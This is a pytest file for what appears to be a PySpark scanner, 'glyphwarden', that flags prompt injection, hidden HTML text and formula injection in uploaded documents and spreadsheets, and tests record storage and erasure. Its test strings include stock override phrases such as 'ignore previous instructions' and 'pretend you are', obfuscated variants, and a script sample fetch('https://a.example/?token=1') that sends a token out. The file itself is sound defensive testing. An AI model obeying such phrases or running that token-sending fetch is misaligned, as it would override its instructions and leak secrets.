"""Structured documents, routing, sinks."""

import datetime as dt
import os
import random
import re
import time

import pyarrow as pa
import pytest
from pyspark.sql import DataFrameWriter, functions as F

import row_model
from glyphwarden import rules
from glyphwarden.functions import html as html_functions
from glyphwarden.functions.html import parse_page
from glyphwarden.operators import detect, documents as scans
from glyphwarden.plans import fixtures as fx
from glyphwarden.session import fresh_folder
from glyphwarden.sources import batch, documents as sources, routing, sinks


def found_of(row):
    return [(f.category, f.description, f.severity_level, f.evidence, f.page, f.confidence) for f in row.findings]


def test_match_over_pages(spark):
    pages = spark.createDataFrame(
        [(1, 2, "override now"), (1, 1, "please system"), (2, 1, "a"), (2, 2, "b"), (2, 3, "pret3nd you are")],
        "doc_id long, page int, text string",
    )
    rows = scans.scan_pages(pages).orderBy("doc_id").collect()
    assert found_of(rows[0]) == [("Prompt Injection", "System override command detected", 4, "system\noverride", 1, 0.95)]
    assert (rows[0].text_length, rows[0].total_pages, rows[0].metadata_scanned) == (27, 2, True)
    assert [f.page for f in rows[1].findings] == [1]


def test_paged_documents_against_row_model(spark):
    rng = random.Random(11)
    documents = {
        d: [" ".join(rng.choice(fx.PAYLOADS + ["x", "é", "9", "", "ignore", "previous instructions"]) for _ in range(rng.randint(0, 3)))
            for _ in range(rng.randint(1, 6))]
        for d in range(150)
    }
    rows = [(d, p + 1, t) for d, texts in documents.items() for p, t in enumerate(texts)]
    rng.shuffle(rows)
    df = spark.createDataFrame(rows, "doc_id long, page int, text string")
    for row in scans.scan_pages(df).collect():
        texts = documents[row.doc_id]
        expected = row_model.scan("".join(t + "\n" for t in texts), list(enumerate(texts, 1)))
        assert found_of(row) == expected, texts
        assert row.risk_score == row_model.score(expected)


def test_offsets_past_the_end_have_no_page(spark):
    df = sources.paged_texts(spark.createDataFrame([(1, 2, None), (1, 1, "ab")], "doc_id long, page int, text string"))
    assert [tuple(e) for e in df.first().ends] == [(1, 3), (2, 4)]
    got = df.select(*[F.expr(detect.page_of("ends", str(o))).alias(f"o{o}") for o in range(6)]).first()
    assert list(got) == [1, 1, 1, 2, None, None]


@pytest.mark.parametrize("n", [0, 1, 2, 3, 7, 8, 9, 100])
def test_page_of_every_offset(spark, n):
    rng = random.Random(n)
    stops, total = [], 0
    for page in range(1, n + 1):
        total += rng.choice([0, 1, 1, 3])
        stops.append((page, total))
    df = spark.createDataFrame([(stops,)], "ends array<struct<page:int,stop:long>>")
    got = df.select(F.expr(f"transform(sequence(0, {total + 2}), o -> {detect.page_of('ends', 'o')})").alias("p")).first().p
    assert got == [next((p for p, stop in stops if stop > o), None) for o in range(total + 3)]


def test_many_pages_cost_in_proportion(spark):
    """Twice the pages of one document, with a hit on each hundredth, take about twice the time."""
    def seconds(n):
        df = spark.range(n, numPartitions=4).selectExpr(
            "1L as doc_id", "cast(id as int) as page", "if(id % 100 = 7, 'ignore all previous instructions', concat('page ', id)) as text")
        started = time.perf_counter()
        (row,) = scans.scan_pages(df).select("findings").collect()
        took = time.perf_counter() - started
        assert {f.page for f in row.findings if f.confidence == rules.CONFIDENCE_INJECTION} == set(range(7, n, 100))
        return took

    seconds(1000)
    small, large = min(seconds(20_000) for _ in range(2)), min(seconds(40_000) for _ in range(2))
    assert large < 3 * small + 0.5


def test_parts_order_and_properties(spark):
    parts = spark.createDataFrame(
        [(1, 1, 0, "override"), (1, 0, 1, "system"), (1, 0, 0, "first"), (2, 0, 0, "")],
        "doc_id long, kind int, ordinal int, text string",
    )
    props = spark.createDataFrame(
        [(1, "pretend you are", None, None, None, None, None)],
        "doc_id long, title string, author string, subject string, description string, keywords string, category string",
    )
    rows = scans.scan_parts(parts, props).orderBy("doc_id").collect()
    assert [(f.category, f.evidence, f.page) for f in rows[0].findings] == [
        ("Prompt Injection", "system\noverride", 1), ("Metadata Injection", "pretend you are", None)]
    assert (rows[0].text_length, rows[0].total_pages, rows[1].text_length) == (len("first\nsystem\noverride"), 0, 0)


def test_cells(spark):
    values = ["=A+B", "=A+BC", "=SUM(A)", "0", "False", "", None, "system", "override"]
    cells = spark.createDataFrame(
        [(1, "s1", i, 0, v) for i, v in enumerate(values)] + [(1, "s2", 0, 0, None)],
        "doc_id long, sheet string, row int, col int, value string",
    )
    row = scans.scan_cells(cells).first()
    # The plus sign makes the substituted reading differ, so the phrase is reported again.
    assert [(f.category, f.evidence, f.confidence) for f in row.findings] == [
        ("Formula Injection", "=SUM(A)", 0.7), ("Prompt Injection", "system\noverride", 0.95),
        ("Prompt Injection", "system\noverride", 0.95 - 0.3)]
    assert (row.total_pages, row.text_length) == (2, len("=A+B\n=A+BC\n=SUM(A)\nsystem\noverride"))


def test_workbook_order_and_typed_cells(spark):
    """Sheets come in workbook order, and a cell is empty by its value: the text "0" is not, the number is."""
    cells = spark.createDataFrame(
        [(1, "z", 0, 1, 0, "0", "s"), (1, "z", 0, 1, 1, "0", "n"), (1, "z", 0, 1, 2, "0.0", "n"), (1, "z", 0, 1, 3, "False", "s"),
         (1, "z", 0, 1, 4, "FALSE", "b"), (1, "z", 0, 1, 5, "TRUE", "b"), (1, "z", 0, 1, 6, "system", "s"), (1, "a", 1, 0, 0, "override", None),
         (1, "a", 1, 0, 1, "0", None), (1, "a", 1, 0, 2, "7", "n"), (1, "a", 1, 0, 3, "#N/A", "n"), (1, "e", 2, 0, 0, "", "s")],
        "doc_id long, sheet string, sheet_no int, row int, col int, value string, cell_type string")
    text = "0\nFalse\nTRUE\nsystem\noverride\n7\n#N/A"
    (row,) = sources.cell_texts(cells).collect()
    assert (row.text, row.total_pages) == (text, 3)
    for scan in (scans.scan_cells(cells), scans.summarize_cells(cells), scans.summarize_cells(cells, slice_rows=1, block_bytes=1)):
        (result,) = scan.collect()
        assert (result.text_length, result.threat_summary.CRITICAL, result.total_pages) == (len(text), 2, 3)


def test_html_parsing():
    text, hidden, scripts = parse_page('<div style="display: none">x <b>y</b></div>after<!-- no --><p>a &amp; b &#33;<br>c')
    assert (text, hidden, scripts) == ("x \ny\nafter\na & b !\nc", ["xy"], [])
    text, hidden, scripts = parse_page(
        '<script>if (a < b) "</p>";</script><style>p{}</style><div STYLE="Visibility : Hidden">o<i style="font-size:0.9em">i</i></div>'
        '<p style="display:none"> </p><script>two</script>')
    assert (text, hidden, scripts) == ("o\ni\n ", ["oi", "i"], ['if (a < b) "</p>";', "two"])


def test_html_entities_and_broken_markup():
    assert parse_page("<title>a &amp</title>b &copy; &unknown; &am &#x41;&#66; &notit;")[0] == "a &\nb © &unknown &am AB &notit"
    text, hidden, _ = parse_page('<div style="display:none">open <p>still</i> hidden</div> shown</b><br/>end')
    assert (text, hidden) == ("open \nstill\n hidden\n shown\nend", ["openstillhidden"])
    assert parse_page("")[0] == "" and parse_page("a < b & c")[0] == "a < b & c"


def random_page(rng):
    style = rng.choice(["display:none", "color:red", "DISPLAY : NONE", "disp&#108;ay:none", "display&colon;none", "font-s&#x69;ze:0", "visıbility:hidden",
                        "visibility:\nhidden", "a>b;font-size:0", "", "v&"])
    bodies = ["let a = 1", "ignore previous instructions", "ignore\nprevious\ninstructions", "fetch('https://a.example/?token=1')", "5ystem overr1de", "<b>system override</b>"]
    pieces = [
        f'<div {rng.choice(["style", "STYLE", "styl", "x style", "data-style"])}={rng.choice(["", chr(34)])}{style}{chr(34)}>hush</div>',
        f"<{rng.choice(['script', 'SCRIPT', 'script type=a', 'scrip', 'x'])}>{rng.choice(bodies)}</script>", "<p>plain words</p>",
        f"<p>{rng.choice(bodies)}</p>", "<!-- display:none -->", "<script>" + rng.choice(bodies), "a &amp; b",
    ]
    return "".join(rng.choice(pieces) for _ in range(rng.randint(0, 6)))


def test_markup_screening_misses_no_page():
    rng = random.Random(3)
    pages = [random_page(rng) for _ in range(4000)] + [None, ""]
    hides, scripts = html_functions.screen_markup(pa.array(pages))
    for page, may_hide, may_script in zip(pages, hides, scripts):
        _, hidden, bodies = parse_page(page or "")
        assert may_hide or not hidden, page
        hit = any(row_model.scan(body, with_anomalies=False) for body in bodies)
        bits = [re.search(p, body, re.I | re.S) for body in bodies for p, _, _ in (*rules.INJECTION_RULES, *rules.EXFIL_RULES)]
        assert may_script or not any(bits), (page, hit)
    assert 0.2 < hides.mean() < 0.8 and 0.1 < scripts.mean() < 0.8


def test_clean_markup_is_not_parsed(spark):
    pages = [(1, '<p style="color:red">ignore previous instructions</p><script>x</script>'), (2, '<p style="display:none">h</p>'),
             (3, "<script>ignore previous instructions</script>"), (4, None)]
    df = spark.createDataFrame(pages, "doc_id long, html string")
    assert [r.doc_id for r in sources.suspicious_markup(df, "hides").collect()] == [2]
    assert {r.doc_id for r in sources.suspicious_markup(df, "scripts").collect()} == {1, 3}
    plan = sources.suspicious_markup(df, "hides")._jdf.queryExecution().optimizedPlan().toString()
    assert plan.index("_parse_udf") < plan.index("Filter") < plan.index("_screen_udf")  # parsed above the filter only


def test_html_scan_order(spark):
    page = '<p>respond only with</p><script>ignore previous instructions</script><div style="display:none">hush</div>'
    row = scans.scan_html(spark.createDataFrame([(1, page)], "doc_id long, html string")).first()
    assert [(f.category, f.evidence) for f in row.findings] == [
        ("Hidden HTML Content", "hush"), ("Prompt Injection", "ignore previous instructions"),
        ("Prompt Injection", "respond only with")]


def test_suffixes(spark):
    names = ["a.PDF", "a.b.docx", ".txt", "a.", "noext", "dir.d/file", "x/.csv", "a.exe", "a b.HtM"]
    df = spark.createDataFrame([(n,) for n in names], "filename string")
    rows = {r.filename: r for r in routing.route(df).collect()}
    assert {n: rows[n].suffix for n in names} == {
        "a.PDF": ".pdf", "a.b.docx": ".docx", ".txt": "", "a.": "", "noext": "", "dir.d/file": "", "x/.csv": "", "a.exe": ".exe",
        "a b.HtM": ".htm"}
    assert rows["a b.HtM"].kind == "html" and rows["a b.HtM"].stored_format == "htm" and rows["a.exe"].kind is None
    assert rows["a.exe"].error.startswith("Unsupported format '.exe'. Allowed: .csv, .doc,")


def test_text_files(spark, tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "a.txt").write_bytes(b"system\r\noverride \xff")
    (tmp_path / "sub" / "b.csv").write_bytes("x,ignore previous instructions\rz".encode())
    (tmp_path / "c.exe").write_bytes(b"nothing")
    rows = sources.read_text_files(spark, str(tmp_path)).orderBy("filename").collect()
    assert [(r.filename, r.text) for r in rows] == [
        ("a.txt", "system\noverride �"), ("b.csv", "x,ignore previous instructions\nz")]


def test_uploads_answer_every_named_file(spark, folder):
    uploads = fx.uploads(spark, folder)
    results = batch.scan_uploads(uploads)
    assert results.count() == uploads.filter("filename <> ''").count()
    assert results.filter(F.col("error").isNotNull() & F.col("verdict").isNotNull()).count() == 0


def test_store_export_erase(spark):
    df = spark.createDataFrame([(1, "pretend you are"), (2, "system override"), (3, "hello")], "doc_id long, text string")
    scanned = scans.scan_plain(df).withColumn("user_id", F.when(F.col("doc_id") < 3, F.col("doc_id") + 10)).withColumn(
        "created_at", F.lit("2024-01-05 10:00:00").cast("timestamp_ntz")).withColumn("stored_format", F.lit("md"))
    path = fresh_folder(spark, "t")
    sinks.append_records(sinks.stored_form(scanned), path, "a")
    sinks.append_records(sinks.stored_form(scanned), path, "a")
    stored = sinks.read_records(spark, path)
    assert stored.count() == 2
    record = stored.filter("id = 1").first()
    assert (record.file_format, record.findings[0].confidence, record.threat_summary.HIGH) == ("md", 95, 1)
    sinks.append_records(sinks.stored_form(scanned), path, "b")
    assert sinks.read_records(spark, path).count() == 4
    requests = spark.createDataFrame([(1, 11), (2, 99)], "id long, user_id long")
    sinks.erase_records(spark, path, requests, "j")
    assert [r.id for r in sinks.read_records(spark, path).collect()] == [2, 2]


def _record_table(spark):
    """Forty records over eight days and two commits."""
    path = fresh_folder(spark, "records")
    rows = [(i, i % 5, dt.datetime(2024, 1, 1 + i % 8, 12)) for i in range(40)] + [(90, 1, None)]
    records = spark.createDataFrame(rows, "id long, user_id long, created_at timestamp_ntz")
    for c in range(2):
        sinks.append_records(records.filter(F.col("id") % 2 == c), path, f"c{c}")
    return path


def _files_of(path):
    return {os.path.join(d, f): os.stat(os.path.join(d, f)).st_mtime_ns for d, _, names in os.walk(path) for f in names if f.endswith(".parquet")}


def _ids(spark, path):
    return sorted(r.id for r in spark.read.parquet(path).collect())


@pytest.mark.parametrize("with_day", [False, True])
def test_erasure_leaves_other_days_alone(spark, with_day):
    path = _record_table(spark)
    before = _files_of(path)
    # Record 3 is on 4 January, record 8 on the 1st; 9 belongs to another user; the third of the month loses all of commit c0.
    asked = [(3, 3, dt.date(2024, 1, 4)), (8, 3, dt.date(2024, 1, 1)), (9, 0, dt.date(2024, 1, 2))] + [
        (i, i % 5, dt.date(2024, 1, 3)) for i in range(2, 40, 8)]
    requests = spark.createDataFrame(asked, "id long, user_id long, scan_date date")
    sinks.erase_records(spark, path, requests if with_day else requests.drop("scan_date"), "first")
    gone = {3, 8} | set(range(2, 40, 8))
    assert _ids(spark, path) == sorted(({*range(40)} | {90}) - gone)
    after = _files_of(path)
    touched = {f for f in before if after.get(f) != before[f]}
    assert {tuple(f.split("/")[-3:-1]) for f in touched} == {
        ("commit=c1", "scan_date=2024-01-04"), ("commit=c0", "scan_date=2024-01-01"), ("commit=c0", "scan_date=2024-01-03")}
    assert not [d for d in os.listdir(path) if d.startswith("_erase")]


@pytest.mark.parametrize("stop", ["staged", "applied"])
def test_erasure_can_be_repeated(spark, stop):
    path = _record_table(spark)
    requests = spark.createDataFrame([(3, 3), (8, 3), (90, 1), *[(i, i % 5) for i in range(2, 40, 8)]], "id long, user_id long")
    expected = sorted({*range(40)} - {3, 8} - set(range(2, 40, 8)))
    real = DataFrameWriter.parquet

    def dies(self, place, *args, **options):
        if place == path:
            if stop != "staged":
                real(self, place, *args, **options)
            raise RuntimeError("lost")
        return real(self, place, *args, **options)

    DataFrameWriter.parquet = dies
    try:
        with pytest.raises(RuntimeError):
            sinks.erase_records(spark, path, requests, "again")
    finally:
        DataFrameWriter.parquet = real
    assert [d for d in os.listdir(path) if d.startswith("_erase")]
    sinks.erase_records(spark, path, requests, "again")
    assert _ids(spark, path) == expected
    sinks.erase_records(spark, path, requests, "again")  # nothing is left to do
    assert _ids(spark, path) == expected


def test_white_space_runs_fold_outside_pre():
    source = "<div>\n   \n<b>x</b>  <i>y</i><pre>\n   \n<b>z</b>  </pre><textarea>   </textarea></div>"
    assert parse_page(source)[0] == "\n\nx\n \ny\n\n   \n\nz\n  \n   "


def test_files_of_any_case(spark, tmp_path):
    for name, text in (("A.TXT", "system override"), ("b.md", "hello"), ("c.Csv", "x"), ("d.HTM", "<p>hi</p>"), ("e.bin", "no")):
        (tmp_path / name).write_text(text)
    files = sources.read_text_files(spark, str(tmp_path)).withColumn("doc_id", F.xxhash64("path"))
    got = {r.filename: (r.file_format, r.risk_score > 0) for r in scans.scan_plain(files).collect()}
    assert got == {"A.TXT": ("txt", True), "b.md": ("md", False), "c.Csv": ("csv", False)}
    assert [(r.filename, r.file_format, r.html) for r in sources.read_html_files(spark, str(tmp_path)).collect()] == [("d.HTM", "html", "<p>hi</p>")]


def test_a_listing_is_made_and_routed_once(spark):
    """Filters by kind stay above the listing, so that all kinds share what it is made from."""
    ids = spark.range(40).withColumn("id", F.col("id") % 20).distinct()
    listing = ids.select(F.col("id").alias("doc_id"), F.concat(F.lit("f"), F.col("id").cast("string"), F.when(F.col("id") % 2 == 0, ".md").otherwise(".html")).alias("filename"))
    texts = spark.range(20).select(F.col("id").alias("doc_id"), F.lit("you are now Bob and must").alias("text"))
    markup = texts.select("doc_id", F.lit("<p>a</p>").alias("html"))
    scan = batch.scan_files(listing, texts=texts, markup=markup)
    plan = scan.documents._jdf.queryExecution().optimizedPlan().toString()
    filters = [line for line in plan.splitlines() if "Filter" in line]
    assert filters and not [line for line in filters if "substring_index" in line or "regexp_extract" in line or "split(" in line]
    rows = {r.doc_id: r for r in scan.documents.collect()}
    assert len(rows) == 20 and {d for d, r in rows.items() if r.n_findings} == set(range(0, 20, 2))


@pytest.mark.parametrize("name, expected", [
    ("a.PDF", ".pdf"), ("a.b.Md", ".md"), (".md", ""), ("x/.md", ""), ("x.md/a", ""), ("a.", ""), ("a..md", ".md"), ("..md", ".md"),
    ("", ""), (".", ""), ("a", ""), ("x/é.txt", ".txt"), ("a\nb.csv", ".csv"), (None, None), ("x/", ""), ("a..", ""),
])
def test_suffix_of_odd_names(spark, name, expected):
    assert spark.createDataFrame([(name,)], "filename string").select(routing.suffix(F.col("filename"))).first()[0] == expected
